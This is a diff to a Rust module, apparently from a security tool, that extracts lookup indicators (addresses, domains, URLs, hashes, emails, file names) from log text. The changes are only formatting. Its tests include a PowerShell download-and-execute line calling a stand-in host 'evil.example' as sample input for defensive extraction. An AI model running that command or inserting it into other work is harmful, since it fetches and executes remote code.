@@ -1,7 +1,7 @@
 //! Finds what an event's value may be looked up as.
 
-use crate::value::{address_bits, domain_text, file_name, host_and_port, url_text};
 use crate::Kind;
+use crate::value::{address_bits, domain_text, file_name, host_and_port, url_text};
 use std::net::IpAddr;
 
 /// Something to look up.
@@ -95,7 +95,24 @@ pub(crate) fn text(text: &str, wanted: u32, probe: &mut impl FnMut(Probe<'_>)) {
     let wants = |kinds: &[Kind]| kinds.iter().any(|kind| wanted & kind.bit() != 0);
     let separates = |c: char| {
         c.is_whitespace()
-            || matches!(c, '"' | '\'' | '`' | '<' | '>' | '(' | ')' | '{' | '}' | ',' | ';' | '|' | '「' | '」' | '、' | '。')
+            || matches!(
+                c,
+                '"' | '\''
+                    | '`'
+                    | '<'
+                    | '>'
+                    | '('
+                    | ')'
+                    | '{'
+                    | '}'
+                    | ','
+                    | ';'
+                    | '|'
+                    | '「'
+                    | '」'
+                    | '、'
+                    | '。'
+            )
     };
     let hosts = wants(&[Kind::Ip, Kind::Domain]);
     let hashed = wants(&[Kind::Md5, Kind::Sha1, Kind::Sha256, Kind::Sha512, Kind::Imphash]);
@@ -175,15 +192,23 @@ mod tests {
     fn text_names_what_it_names() {
         for (line, what) in [
             ("Failed password for root from 203.0.113.9 port 22 ssh2", "address 203.0.113.9"),
-            ("%ASA-6-302013: Built outbound TCP for outside:203.0.113.9/443", "address 203.0.113.9"),
+            (
+                "%ASA-6-302013: Built outbound TCP for outside:203.0.113.9/443",
+                "address 203.0.113.9",
+            ),
             ("rhost=203.0.113.9.", "address 203.0.113.9"),
             ("from [2001:db8::1]:443", "address 2001:db8::1"),
-            ("IEX (New-Object Net.WebClient).DownloadString('http://Evil.example/a.ps1')", "url http://evil.example/a.ps1"),
+            (
+                "IEX (New-Object Net.WebClient).DownloadString('http://Evil.example/a.ps1')",
+                "url http://evil.example/a.ps1",
+            ),
             ("IEX ... ('http://evil.example/a.ps1')", "domain evil.example"),
             ("curl https://203.0.113.9:8443/x?y=1", "address 203.0.113.9"),
             ("query: evil.example. IN A", "domain evil.example"),
-            ("sha256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
-             "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
+            (
+                "sha256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
+                "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+            ),
             ("to=<Bad@Evil.example>, relay=x", "email bad@evil.example"),
             ("C:\\Windows\\Temp\\Evil.exe -x", "file-name evil.exe"),
             ("通信先は「evil.example」です", "domain evil.example"),
